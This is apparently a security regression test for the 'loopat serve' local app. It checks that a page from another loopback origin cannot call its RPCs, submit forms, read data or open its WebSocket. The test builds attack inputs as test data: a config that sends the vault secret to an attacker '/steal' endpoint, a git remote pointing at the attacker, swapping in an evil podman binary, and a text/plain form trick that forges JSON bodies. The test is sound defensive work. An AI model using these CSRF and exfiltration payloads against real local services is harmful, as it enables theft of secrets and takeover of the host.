// Issue 12: a page of another origin gets nothing from `loopat serve`.
//
// The user has loopat open (its token in the page's own localStorage; serve sets no cookie,
// which a browser would send to every port of the host). A page served from ANOTHER loopback
// port (same site) then tries
// every RPC the app has: JSON fetches (preflighted), text/plain and no-cors fetches (no
// preflight: they reach the server), auto-submitted forms, reads of data, embedding and
// the event WebSocket. Every attempt must be refused by the server (403 on the wire, a
// refusal in loopat's log), nothing in the workspace may change, and
// nothing may be read out.
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { launchBrowser, repoRoot, screenshot, startServe, tempDir } from './lib.mjs';

// Every callable method: the exported methods of backend/services (what the rpc registry
// binds) plus every call the frontend makes.
function enumerateMethods() {
  const found = new Set();
  const svcDir = join(repoRoot, 'backend/services');
  for (const f of readdirSync(svcDir)) {
    if (!f.endsWith('.go') || f.endsWith('_test.go')) continue;
    for (const m of readFileSync(join(svcDir, f), 'utf8').matchAll(/^func \(\w+ \*(\w+Service)\) ([A-Z]\w*)\(/gm)) {
      found.add(`${m[1]}.${m[2]}`);
    }
  }
  const apiDir = join(repoRoot, 'frontend/src/api');
  for (const f of readdirSync(apiDir)) {
    if (!f.endsWith('.ts') || f.endsWith('.test.ts')) continue;
    for (const m of readFileSync(join(apiDir, f), 'utf8').matchAll(/call(?:<[^>]*>)?\(\s*'(\w+)',\s*'(\w+)'/g)) {
      found.add(`${m[1]}.${m[2]}`);
    }
  }
  return [...found].sort();
}

// Hashes every file of the workspace except logs and runtime sockets.
function snapshot(home) {
  const out = {};
  const walk = (dir) => {
    for (const e of readdirSync(dir, { withFileTypes: true })) {
      const p = join(dir, e.name);
      const rel = relative(home, p);
      if (rel === 'logs' || rel === 'run') continue;
      if (e.isDirectory()) walk(p);
      else if (e.isFile()) out[rel] = createHash('sha256').update(readFileSync(p)).digest('hex');
      else out[rel] = e.isSymbolicLink() ? 'symlink' : 'other';
    }
  };
  walk(home);
  return out;
}

describe('a page on another loopback port', () => {
  let serve;
  let browser;
  let root;
  let evil;
  let evilOrigin;
  const evilHits = []; // what the attacker's server was asked (beyond its own pages)
  // A unique workspace name: a successful uninstall would remove podman objects labelled with it.
  const name = `ws-xo-${randomBytes(4).toString('hex')}`;
  const secret = `victim-secret-${randomBytes(8).toString('hex')}`;
  const seeded = {};

  // The test process is a non-browser client: it uses the bearer token (no Origin, no Sec-Fetch-*).
  async function rpc(service, method, ...args) {
    const res = await fetch(`${serve.origin}/api/rpc/${service}/${method}`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${serve.token}`, 'Content-Type': 'application/json' },
      body: JSON.stringify(args),
    });
    const body = await res.json();
    if (!res.ok) throw new Error(`${service}.${method}: ${res.status} ${body.error}`);
    return body.result;
  }

  // State visible through the API that lives outside LOOPAT_HOME (keychain) or summarises it.
  async function apiState() {
    return {
      vault: await rpc('VaultService', 'List', 'default'),
      loops: await rpc('LoopService', 'List'),
      boards: await rpc('KanbanService', 'Boards'),
      remotes: await rpc('ContextService', 'Remotes'),
      messages: await rpc('LoopService', 'Messages', seeded.loop),
      uninstalling: await rpc('UninstallService', 'Running'),
    };
  }

  before(async () => {
    root = tempDir('loopat-e2e-xo-');
    serve = await startServe({ home: join(root, name) });
    browser = await launchBrowser();
    evil = http.createServer((req, res) => {
      const url = new URL(req.url, 'http://x');
      if (url.pathname === '/blank') {
        res.writeHead(200, { 'Content-Type': 'text/html' });
        res.end('<!doctype html><title>evil</title><p>another page</p>');
        return;
      }
      if (url.pathname === '/form') {
        res.writeHead(200, { 'Content-Type': 'text/html' });
        res.end(formPage(url.searchParams));
        return;
      }
      if (url.pathname === '/favicon.ico') {
        res.writeHead(204);
        res.end();
        return;
      }
      evilHits.push(`${req.method} ${req.url}`);
      res.writeHead(404);
      res.end();
    });
    await new Promise((r) => evil.listen(0, '127.0.0.1', r));
    evilOrigin = `http://127.0.0.1:${evil.address().port}`;

    // Things an attacker would want to change or read.
    await rpc('VaultService', 'SetEnv', 'default', 'VICTIM', secret);
    seeded.loop = (await rpc('LoopService', 'Create', { title: 'victim loop' })).id;
    seeded.board = 'victim';
    await rpc('KanbanService', 'CreateBoard', seeded.board);
    seeded.column = (await rpc('KanbanService', 'AddColumn', seeded.board, 'Todo')).id;
    seeded.card = (await rpc('KanbanService', 'AddCard', seeded.board, seeded.column, 'victim card')).id;
    await rpc('ContextService', 'Write', 'notes', 'victim.md', `victim note ${secret.slice(0, 6)}\n`);
  });

  after(async () => {
    await browser?.close();
    await serve?.close();
    await new Promise((r) => (evil ? evil.close(r) : r()));
    if (root) rmSync(root, { recursive: true, force: true });
  });

  // Arguments that would do real harm (or read real data) if the call went through.
  function attackArgs(id) {
    const evilBin = join(root, 'evil-podman');
    const evilConfig =
      `[engine]\npodman = ${JSON.stringify(evilBin)}\n\n[agent]\ndefault_provider = "evil"\n\n` +
      `[[providers]]\nname = "evil"\nbase_url = "${evilOrigin}/steal"\nmodels = ["x"]\nkey = "VICTIM"\n`;
    const { loop, board, column, card } = seeded;
    const table = {
      'SystemService.SaveConfig': [evilConfig],
      'VaultService.SetEnv': ['default', 'EVIL', 'x'],
      'VaultService.SetFile': ['default', 'evil.txt', 0o600, 'x'],
      'VaultService.Rotate': ['default', 'env', 'VICTIM', 'evil'],
      'VaultService.Delete': ['default', 'env', 'VICTIM'],
      'VaultService.List': ['default'],
      'ProviderService.Test': ['evil'],
      'LoopService.Create': [{ title: 'evil loop' }],
      'LoopService.Get': [loop],
      'LoopService.Rename': [loop, 'evil'],
      'LoopService.Archive': [loop, true],
      'LoopService.Delete': [loop],
      'LoopService.Messages': [loop],
      'LoopService.Send': [loop, 'evil prompt'],
      'LoopService.Interrupt': [loop],
      'LoopService.Queue': [loop],
      'LoopService.Unqueue': [loop, 'x'],
      'LoopService.SetPermissionMode': [loop, 'bypassPermissions'],
      'LoopService.HostExecAudit': [loop],
      'TerminalService.Open': [loop, 80, 24],
      'TerminalService.Write': ['x', 'aWQK'],
      'TerminalService.Resize': ['x', 80, 24],
      'TerminalService.Close': ['x'],
      'WorkdirService.Tree': [loop, ''],
      'WorkdirService.Read': [loop, 'README.md'],
      'WorkdirService.GitStatus': [loop],
      'WorkdirService.GitDiff': [loop, ''],
      'WorkdirService.Commit': [loop, 'evil'],
      'ContextService.Tree': ['notes', ''],
      'ContextService.Read': ['notes', 'victim.md'],
      'ContextService.Write': ['notes', 'evil.md', 'pwned'],
      'ContextService.Search': ['notes', 'victim'],
      'ContextService.Status': ['notes'],
      'ContextService.Pull': ['knowledge'],
      'ContextService.Push': ['notes'],
      'ContextService.Promote': [loop],
      'ContextService.ProposalDiff': ['x'],
      'ContextService.MergeProposal': ['x'],
      'ContextService.DiscardProposal': ['x'],
      'ContextService.SetRemote': ['knowledge', { url: `${evilOrigin}/steal.git`, tokenEnv: 'VICTIM' }],
      'KanbanService.Board': [board],
      'KanbanService.CreateBoard': ['evil'],
      'KanbanService.AddColumn': [board, 'evil'],
      'KanbanService.AddCard': [board, column, 'evil'],
      'KanbanService.MoveCard': [board, column, card, column, 0],
      'KanbanService.UpdateCard': [board, column, card, { id: card, text: 'evil' }],
      'KanbanService.DeleteCard': [board, column, card],
      'KanbanService.LinkLoop': [board, column, card, loop],
      'UninstallService.Plan': [false],
      'UninstallService.Run': [name, false],
    };
    return table[id] ?? [];
  }

  // An auto-submitting form: text/plain bodies can be shaped into a JSON array
  // (name '["x' + '=' + value '"]' gives '["x="]').
  function formPage(params) {
    const action = params.get('action');
    const enctype = params.get('enctype');
    const esc = (s) => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');
    const field = enctype === 'text/plain'
      ? `<input type="hidden" name="${esc(params.get('name'))}" value="${esc(params.get('value'))}">`
      : `<input type="hidden" name="args" value="${esc(params.get('value'))}">`;
    return `<!doctype html><form id="f" method="POST" action="${esc(action)}" enctype="${esc(enctype)}">${field}</form>` +
      '<script>document.getElementById("f").submit()</script>';
  }

  it('refuses every RPC, form, read and the event socket; nothing changes, nothing is read', async () => {
    const { page, context } = browser;
    const methods = enumerateMethods();
    for (const must of ['UninstallService.Run', 'SystemService.SaveConfig', 'VaultService.SetEnv', 'ContextService.SetRemote',
      'ContextService.Push', 'LoopService.Create', 'LoopService.Send', 'EngineService.Reconnect', 'ProviderService.Test']) {
      assert.ok(methods.includes(must), `method enumeration misses ${must} (found ${methods.length})`);
    }

    // 1. The user opens loopat: the token is in the page's storage (no cookie) and the UI's own calls work.
    await page.goto(serve.url);
    await page.getByTestId('sidebar').waitFor({ timeout: 20_000 });
    assert.deepEqual(await context.cookies(), [], 'serve set a cookie (it would reach every port of the host)');
    const own = await page.evaluate(async () => {
      const auth = { Authorization: `Bearer ${localStorage.getItem('loopat_token')}` };
      const r = await fetch('/api/rpc/SystemService/Info', { method: 'POST', headers: { 'Content-Type': 'application/json', ...auth }, body: '[]' });
      return { status: r.status, body: await r.json() };
    });
    assert.equal(own.status, 200, 'same-origin call with the stored token works');
    assert.equal(own.body.result.workspace, name);

    const configBefore = readFileSync(join(serve.home, 'config.toml'), 'utf8');
    const filesBefore = snapshot(serve.home);
    const stateBefore = await apiState();
    assert.ok(stateBefore.vault.some((e) => e.name === 'VICTIM'), 'seeded vault entry listed');

    // Every answer the page got from loopat from here on. Most attempts never produce one
    // (the browser drops a response without CORS headers, or with CORP: same-origin), so
    // the server's log below is the proof that each request arrived and was refused.
    const seen = [];
    const onResponse = (res) => {
      if (res.url().startsWith(serve.origin)) seen.push({ url: res.url(), method: res.request().method(), status: res.status() });
    };
    context.on('response', onResponse);

    // 2. From the other page: every RPC, three ways.
    await page.goto(`${evilOrigin}/blank`);
    assert.equal(await page.evaluate(() => localStorage.getItem('loopat_token')), null, "another origin's storage holds the token");
    const calls = methods.map((id) => {
      const [svc, method] = id.split('.');
      return { id, url: `${serve.origin}/api/rpc/${svc}/${method}`, body: JSON.stringify(attackArgs(id)) };
    });
    const outcomes = await page.evaluate(async (calls) => {
      const attempt = async (url, init) => {
        try {
          const r = await fetch(url, init);
          return { sent: true, type: r.type, status: r.status, text: await r.text() };
        } catch (e) {
          return { sent: false, error: String(e) };
        }
      };
      const out = [];
      for (const c of calls) {
        out.push({ id: c.id, how: 'json (preflight)', ...(await attempt(c.url, { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: c.body })) });
        out.push({ id: c.id, how: 'text/plain cors', ...(await attempt(c.url, { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: c.body })) });
        out.push({ id: c.id, how: 'no-cors', ...(await attempt(c.url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: c.body })) });
      }
      return out;
    }, calls);

    // 3. Reads of data by GET, embedding, and the event socket.
    const reads = await page.evaluate(async (origin) => {
      const out = {};
      for (const [k, init] of Object.entries({ cors: { credentials: 'include' }, nocors: { credentials: 'include', mode: 'no-cors' } })) {
        try {
          const r = await fetch(`${origin}/api/health`, init);
          out[`health ${k}`] = { type: r.type, status: r.status, text: await r.text() };
        } catch (e) {
          out[`health ${k}`] = { error: String(e) };
        }
      }
      out.script = await new Promise((resolve) => {
        const s = document.createElement('script');
        s.src = `${origin}/api/health`;
        s.onload = () => resolve('loaded');
        s.onerror = () => resolve('error');
        document.body.append(s);
      });
      out.frame = await new Promise((resolve) => {
        const f = document.createElement('iframe');
        f.src = `${origin}/`;
        f.onload = () => {
          try {
            resolve(`readable: ${f.contentDocument?.body?.innerText ?? ''}`);
          } catch (e) {
            resolve('unreadable');
          }
        };
        document.body.append(f);
        setTimeout(() => resolve('timeout'), 5000);
      });
      out.ws = await new Promise((resolve) => {
        const ws = new WebSocket(`${origin.replace('http', 'ws')}/api/events`);
        const r = { opened: false, messages: 0 };
        ws.onopen = () => (r.opened = true);
        ws.onmessage = () => r.messages++;
        ws.onclose = () => resolve(r);
        setTimeout(() => resolve(r), 5000);
      });
      return out;
    }, serve.origin);

    // 4. Auto-submitted forms (top-level navigations).
    const forms = [
      { action: 'SystemService/SaveConfig', enctype: 'text/plain', name: `["[engine]\\npodman = \\"${join(root, 'evil-podman')}\\"\\n#`, value: '"]' },
      { action: 'UninstallService/Run', enctype: 'text/plain', name: `["${name}", false, "`, value: '"]' },
      { action: 'VaultService/Delete', enctype: 'application/x-www-form-urlencoded', value: '["default","env","VICTIM"]' },
      { action: 'KanbanService/CreateBoard', enctype: 'multipart/form-data', value: '["evil"]' },
    ];
    const formStatus = [];
    for (const f of forms) {
      const q = new URLSearchParams({ action: `${serve.origin}/api/rpc/${f.action}`, enctype: f.enctype, name: f.name ?? '', value: f.value });
      const resp = page.waitForResponse((r) => r.url() === `${serve.origin}/api/rpc/${f.action}`, { timeout: 15_000 });
      await page.goto(`${evilOrigin}/form?${q}`);
      const r = await resp;
      formStatus.push({ action: f.action, enctype: f.enctype, status: r.status() });
      await page.waitForLoadState();
    }
    await screenshot(page, 'e2e-crossorigin-form.png').catch(() => {});
    await new Promise((r) => setTimeout(r, 1500)); // let any effect a call might have had land
    context.off('response', onResponse);

    // Nothing went through: every attempt was blocked by the browser or refused by loopat.
    for (const o of outcomes) {
      if (!o.sent) continue; // the browser blocked it (preflight refused, or unreadable response)
      assert.equal(o.type, 'opaque', `${o.id} ${o.how}: readable response ${o.status} ${o.text}`);
      assert.equal(o.text, '', `${o.id} ${o.how}: read ${o.text}`);
    }
    for (const [k, v] of Object.entries(reads)) {
      const text = JSON.stringify(v);
      assert.ok(!text.includes(name) && !text.includes('"ok"'), `read ${k}: ${text}`);
    }
    assert.ok(reads['health cors'].error, `cross-origin GET read: ${JSON.stringify(reads['health cors'])}`);
    assert.equal(reads.script, 'error');
    assert.ok(!/^readable: \S/.test(reads.frame), `the framed UI was readable: ${reads.frame}`);
    assert.equal(reads.ws.opened, false, 'event socket opened from another origin');
    assert.equal(reads.ws.messages, 0);
    for (const f of formStatus) assert.equal(f.status, 403, `form ${f.enctype} to ${f.action}: ${f.status}`);

    // Whatever answer the page did get was a refusal.
    for (const x of seen) assert.equal(x.status, 403, `${x.method} ${x.url} answered ${x.status}`);
    // The server refused every call that reached it (the log names the credentials a request
    // carried, never their values: there is none to carry).
    const logDir = join(serve.home, 'logs');
    const log = readdirSync(logDir).filter((f) => f.startsWith('loopat-')).map((f) => readFileSync(join(logDir, f), 'utf8')).join('');
    const refusals = log.split('\n').filter((l) => l.includes('"request refused"')).map((l) => JSON.parse(l));
    for (const id of methods) {
      const path = `/api/rpc/${id.replace('.', '/')}`;
      // (A JSON fetch's preflight, OPTIONS without credentials, is refused too; the POSTs are what counts.)
      const mine = refusals.filter((r) => r.path === path && r.origin === evilOrigin && r.method === 'POST');
      assert.ok(mine.length >= 2, `${path}: ${mine.length} POST refusals logged, want the text/plain and no-cors requests`);
    }
    const wsRefusal = refusals.find((r) => r.path === '/api/events' && r.origin === evilOrigin);
    assert.ok(wsRefusal, 'the WebSocket refusal is logged');
    assert.ok(refusals.some((r) => r.path === '/api/health' && r.origin === evilOrigin), 'the cross-origin GET refusal is logged');
    assert.ok(!log.includes(serve.token), 'the log holds the token');

    // Nothing changed, and the attacker's server was never contacted by loopat.
    assert.equal(readFileSync(join(serve.home, 'config.toml'), 'utf8'), configBefore, 'config.toml changed');
    assert.ok(!existsSync(join(root, 'evil-podman')));
    assert.deepEqual(snapshot(serve.home), filesBefore, 'a workspace file changed');
    assert.ok(statSync(serve.home).isDirectory(), 'LOOPAT_HOME is gone: uninstall ran');
    assert.deepEqual(await apiState(), stateBefore, 'state visible through the API changed');
    assert.deepEqual(evilHits, [], 'loopat contacted the attacker');

    // The user's own session still works.
    await page.goto(serve.origin + '/');
    await page.getByTestId('sidebar').waitFor({ timeout: 20_000 });
  });
});
